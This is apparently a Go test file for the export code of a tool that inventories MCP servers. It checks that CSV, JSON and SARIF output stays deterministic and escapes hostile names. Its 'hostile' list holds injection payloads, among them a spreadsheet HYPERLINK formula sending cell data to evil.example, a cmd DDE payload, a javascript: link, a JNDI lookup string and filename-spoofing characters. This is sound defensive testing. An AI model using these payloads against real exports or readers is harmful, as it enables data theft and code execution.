package export_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"
	"unicode"

	"rutile/internal/access"
	"rutile/internal/discovery"
	"rutile/internal/discovery/export"
	"rutile/internal/discovery/inventory"
	"rutile/internal/finding"
	"rutile/internal/schematest"
)

// hostile are names that attack whoever reads an export.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"open")`, "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "\r=1", "＝1", "'=1", "a\nb,c\"d", "evil\u202egpj.exe", "zero\u200bwidth",
	"x: y\n---\nkind: API", "- a\n&anchor *alias !!tag", "[link](javascript:alert(1))", `\u{202e}`, "\xff\xfe", "\u3164", "</script><b>", "{{ .Env.HOME }} ${jndi:x}", "a\x00b\x1b[31m",
}

var day = time.Date(2026, 11, 20, 12, 0, 0, 0, time.UTC)

// snapshot has a server of every sort and every hostile name.
func snapshot() *export.Snapshot {
	const host = "hst_0123456789ab"
	s := &export.Snapshot{Generation: 7, Teams: []string{"platform"}, Hosts: []inventory.Host{{ID: host, Name: "anns-laptop", First: day, Last: day}}}
	add := func(key string, kind discovery.Kind, t discovery.Target, names ...string) *inventory.Sighting {
		t.Key, t.Kind = key, kind
		e := inventory.Entry{Server: inventory.Server{Key: key, Kind: kind, Names: names, First: day}, Status: discovery.StatusShadow, Facts: map[discovery.Fact]inventory.Standing{discovery.Configured: {Now: true, Count: 1, Last: day}}, Sightings: 1, Hosts: 1, Last: day}
		s.Servers = append(s.Servers, e)
		v := inventory.Variant{ID: "var_" + key, Server: key, Target: t, First: day}
		s.Variants = append(s.Variants, v)
		s.Sightings = append(s.Sightings, inventory.Sighting{
			ID: "sgt_" + key, Server: key, Variant: v.ID, Host: host, User: "usr_1", Source: "client", Fact: discovery.Configured, Strength: 0.9, Clients: []string{"cursor"},
			Place: discovery.Place{Path: "~/.cursor/mcp.json", Pointer: "/mcpServers/" + key, Line: 3}, Name: key, First: day, Last: day,
		})
		return &s.Sightings[len(s.Sightings)-1]
	}
	add("pkg:npm/notes", discovery.KindPackage, discovery.Target{Package: "pkg:npm/notes", Version: "1.0.0", Pinned: true, Transport: "stdio"}, "notes")
	add("https://mail.example/mcp", discovery.KindRemote, discovery.Target{URL: "https://mail.example/mcp", Transport: "http"}, "mail").Secrets = []discovery.SecretRef{{Name: "Authorization", Where: "header", Kind: "literal"}}
	add("host:"+host+"/path:/home/ann/server.py", discovery.KindLocal, discovery.Target{Command: "python3", Args: []string{"/home/ann/server.py"}}, "own")
	for _, h := range hostile {
		add(h, discovery.KindPackage, discovery.Target{Package: h, Version: h, URL: h, Command: h, Args: []string{h}}, h)
	}
	s.Servers[0].Owner, s.Servers[1].Owner = "platform", "ann"
	s.Servers[0].Registered, s.Servers[0].State = "notes", "sanctioned"
	s.Agents = []inventory.Agent{{ID: "agt_1", Host: host, User: "usr_1", Client: "cursor", Name: "Cursor", Supported: true, First: day, Last: day}}
	raise := func(rule, kind, id, place, why string, state finding.State) {
		f := finding.Finding{ID: finding.ID(rule, finding.Subject{Kind: kind, ID: id}, place), Rule: rule, Subject: finding.Subject{Kind: kind, ID: id}, Place: place, Severity: finding.High, State: state, Why: why, Next: "look", Evidence: []string{why}, First: day, Last: day}
		if state == finding.Muted {
			f.Mute = &finding.Mute{By: "operator:ann", Why: why, At: day, Until: day.Add(time.Hour)}
		}
		s.Findings = append(s.Findings, f)
	}
	raise("SHADOW_SERVER", finding.SubjectFound, "pkg:npm/notes", "", "found, and not in the registry", finding.Open)
	raise("UNPARSABLE", finding.SubjectFile, host+"/usr_1:~/a b/c?d#e.json", "", "cannot be read", finding.Muted)
	raise("ORPHAN_SERVER", finding.SubjectServer, "notes", "", `its owner "ann" is not active`, finding.Open)
	for i := range s.Sightings {
		raise("BYPASS_ENTRY", finding.SubjectFound, s.Sightings[i].Server, inventory.At(&s.Sightings[i]), s.Sightings[i].Server, finding.Muted)
	}
	return s
}

// every is all there is to ask for.
func every() []export.Options {
	var out []export.Options
	for _, as := range export.Formats() {
		o := export.Options{As: export.Format(as)}
		if o.As == export.CSV {
			for _, rows := range export.AllRows() {
				out = append(out, export.Options{As: o.As, Rows: export.Rows(rows)})
			}
			continue
		}
		who := o
		who.Identifiable = true
		out = append(out, o, who)
	}
	return out
}

func made(t *testing.T, s *export.Snapshot, o export.Options) export.Document {
	t.Helper()
	d, err := export.Make(s, o)
	if err != nil {
		t.Fatal(err)
	}
	return d
}

func TestTheSameStateIsTheSameBytes(t *testing.T) {
	for _, o := range every() {
		a, b := made(t, snapshot(), o), made(t, snapshot(), o)
		if !bytes.Equal(a.Bytes, b.Bytes) || a.Snapshot != b.Snapshot {
			t.Errorf("%+v: two documents of one state", o)
		}
		if !bytes.Contains(a.Bytes, []byte(a.Snapshot)) || !strings.HasPrefix(a.Snapshot, "7-") {
			t.Errorf("%+v: the snapshot %q is not in it", o, a.Snapshot)
		}
		other := snapshot()
		other.Findings[0].Owner = "ann"
		if c := made(t, other, o); c.Snapshot == a.Snapshot || bytes.Equal(a.Bytes, c.Bytes) {
			t.Errorf("%+v: another state under the same id", o)
		}
	}
}

// No document has a character its reader does not see, whatever things are called.
func TestNothingHiddenIsWritten(t *testing.T) {
	for _, o := range every() {
		d := made(t, snapshot(), o)
		text := string(d.Bytes)
		if json.Valid(d.Bytes) { // what an escape hides counts too
			var v any
			if err := json.Unmarshal(d.Bytes, &v); err != nil {
				t.Fatal(err)
			}
			text = strings.Join(texts(v), " ")
		}
		for i, r := range text {
			if r != '\n' && r != '\r' && !unicode.IsPrint(r) || r == '\u3164' {
				t.Errorf("%+v: %U in %q", o, r, text[max(0, i-40):i])
			}
		}
	}
}

// texts are all texts of a document, the names of members too.
func texts(v any) []string {
	var out []string
	switch v := v.(type) {
	case string:
		out = append(out, v)
	case []any:
		for _, x := range v {
			out = append(out, texts(x)...)
		}
	case map[string]any:
		for k, x := range v {
			out = append(append(out, k), texts(x)...)
		}
	}
	return out
}

func TestNoCellIsAFormula(t *testing.T) {
	for _, rows := range export.AllRows() {
		d := made(t, snapshot(), export.Options{As: export.CSV, Rows: export.Rows(rows)})
		all, err := csv.NewReader(bytes.NewReader(d.Bytes)).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", rows, err)
		}
		if want := 3 + len(hostile); len(all) != 1+want {
			t.Errorf("%s: %d rows, want %d", rows, len(all)-1, want)
		}
		for _, row := range all[1:] {
			for i, cell := range row {
				if cell != "" && strings.ContainsRune("=+-@\t\r＝＋－＠", []rune(cell)[0]) {
					t.Errorf("%s, %s: %q would be run", rows, all[0][i], cell)
				}
				if strings.ContainsAny(cell, "\n\r\t") {
					t.Errorf("%s, %s: %q is of several lines", rows, all[0][i], cell)
				}
			}
		}
	}
	d := made(t, snapshot(), export.Options{As: export.CSV})
	for _, want := range []string{`'=HYPERLINK(""http`, `'-2+3,`, `''=1`, `\u{9}=1`, `\u{5c}u{202e}`, `evil\u{202e}gpj.exe`} {
		if !strings.Contains(string(d.Bytes), want) {
			t.Errorf("%s is not in\n%s", want, d.Bytes)
		}
	}
}

func TestCSVNamesMachinesOnlyWhenAsked(t *testing.T) {
	for _, who := range []bool{false, true} {
		d := made(t, snapshot(), export.Options{As: export.CSV, Rows: export.Sightings, Identifiable: who})
		if strings.Contains(string(d.Bytes), "anns-laptop") != who {
			t.Errorf("identifiable %v:\n%s", who, d.Bytes)
		}
	}
}

func TestSARIFIsAsPublished(t *testing.T) {
	schema := schematest.Compile(t, schematest.File(t, "github.com/securego/gosec/v2", "report/sarif/testdata/sarif-schema-2.1.0.json"), nil)
	empty := &export.Snapshot{Generation: 1}
	for _, s := range []*export.Snapshot{empty, snapshot()} {
		d := made(t, s, export.Options{As: export.SARIF})
		if err := schema.Check(d.Bytes); err != nil {
			t.Errorf("%v\n%s", err, d.Bytes)
		}
	}
}

func TestSARIFSaysWhatWhereAndWhetherItIsLeftAlone(t *testing.T) {
	s := snapshot()
	var log struct {
		Runs []struct {
			Tool struct {
				Driver struct{ Rules []struct{ ID string } }
			}
			Results []struct {
				RuleID              string
				RuleIndex           int
				Level               string
				Message             struct{ Text string }
				PartialFingerprints map[string]string
				Suppressions        []struct{ Kind, Status, Justification string }
				Locations           []struct {
					PhysicalLocation struct {
						ArtifactLocation struct{ URI string }
						Region           struct{ StartLine int }
					}
				}
			}
		}
	}
	if err := json.Unmarshal(made(t, s, export.Options{As: export.SARIF}).Bytes, &log); err != nil {
		t.Fatal(err)
	}
	run := log.Runs[0]
	if len(run.Results) != len(s.Findings) {
		t.Fatalf("%d results of %d findings", len(run.Results), len(s.Findings))
	}
	linked := false
	for i, r := range run.Results {
		f := &s.Findings[i]
		linked = linked || strings.Contains(r.Message.Text, `\[link\](javascript`)
		at := r.Locations[0].PhysicalLocation
		if run.Tool.Driver.Rules[r.RuleIndex].ID != r.RuleID || r.RuleID != f.Rule || r.Level != "error" || r.PartialFingerprints["rutileFinding/v1"] != f.ID {
			t.Errorf("%s: %+v", f.ID, r)
		}
		if muted := f.State == finding.Muted; muted != (len(r.Suppressions) == 1) || muted && (r.Suppressions[0].Kind != "external" || r.Suppressions[0].Justification == "") {
			t.Errorf("%s is %s: %+v", f.Rule, f.State, r.Suppressions)
		}
		switch f.Rule {
		case "BYPASS_ENTRY", "SHADOW_SERVER":
			if at.ArtifactLocation.URI != "~/.cursor/mcp.json" || at.Region.StartLine != 3 {
				t.Errorf("%s is at %+v", f.Rule, at)
			}
		case "UNPARSABLE":
			if at.ArtifactLocation.URI != "~/a%20b/c%3Fd%23e.json" {
				t.Errorf("%s is at %+v", f.Rule, at)
			}
		}
	}
	if !linked {
		t.Error("a name is not in a message, or a link in it is a link in a message")
	}
}

func TestOptionsThatMeanNothingAreRefused(t *testing.T) {
	for _, o := range []export.Options{{}, {As: "xml"}, {As: "CSV"}, {As: export.SARIF, Rows: export.Servers}, {As: export.CSV, Rows: "hosts"}} {
		if _, err := export.Make(snapshot(), o); access.CodeOf(err) != access.CodeInvalid {
			t.Errorf("%+v: %v", o, err)
		}
	}
}
